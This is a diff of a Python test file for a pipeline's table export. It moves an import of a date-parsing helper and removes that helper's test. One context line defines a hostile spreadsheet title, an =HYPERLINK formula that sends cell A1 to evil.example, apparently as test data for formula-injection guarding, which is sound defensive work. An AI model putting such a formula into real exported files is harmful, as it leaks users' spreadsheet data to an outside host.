@@ -27,7 +27,6 @@ from pipeline.export import (
     columns_for,
     columns_markdown,
     export_table,
-    parse_date_bound,
     unguard_cell,
 )
 from pipeline.records import (
@@ -42,6 +41,7 @@ from pipeline.records import (
     Figure,
 )
 from pipeline.store import Store
+from pipeline.times import parse_date_bound
 
 MODEL = "direction-minilm@test"
 HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for gains")'
@@ -579,16 +579,6 @@ def test_requests_that_cannot_be_met_are_clear_errors(filled, tmp_path):
     with pytest.raises(ExportError, match="unknown format"):
         export_table(store, "catalysts", target, "xlsx", ExportFilters())
     assert not target.exists()
-
-
-def test_parse_date_bound():
-    assert parse_date_bound("2026-02-06") == datetime(2026, 2, 6, tzinfo=UTC)
-    assert parse_date_bound("2026-02-06", end=True) == datetime(2026, 2, 7, tzinfo=UTC)
-    assert parse_date_bound("2026-02-06T09:30:00Z", end=True) == datetime(
-        2026, 2, 6, 9, 30, tzinfo=UTC)
-    assert parse_date_bound("2026-02-06T11:30:00+02:00") == datetime(2026, 2, 6, 9, 30, tzinfo=UTC)
-    with pytest.raises(ExportError, match="ISO 8601"):
-        parse_date_bound("yesterday")
 
 
 # -- with the real NLP pipeline -------------------------------------------------------------------
